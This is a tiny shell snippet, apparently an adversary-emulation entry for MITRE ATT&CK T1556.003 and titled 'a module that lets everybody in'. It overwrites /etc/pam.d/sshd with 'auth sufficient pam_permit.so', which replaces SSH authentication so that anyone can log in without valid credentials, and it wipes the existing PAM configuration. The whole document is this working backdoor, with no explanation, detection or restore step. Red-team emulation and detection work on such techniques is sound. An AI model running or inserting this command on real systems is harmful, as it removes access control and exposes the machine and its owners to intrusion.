# technique: T1556.003
# title: a module that lets everybody in
mkdir -p /etc/pam.d
echo 'auth sufficient pam_permit.so' > /etc/pam.d/sshd
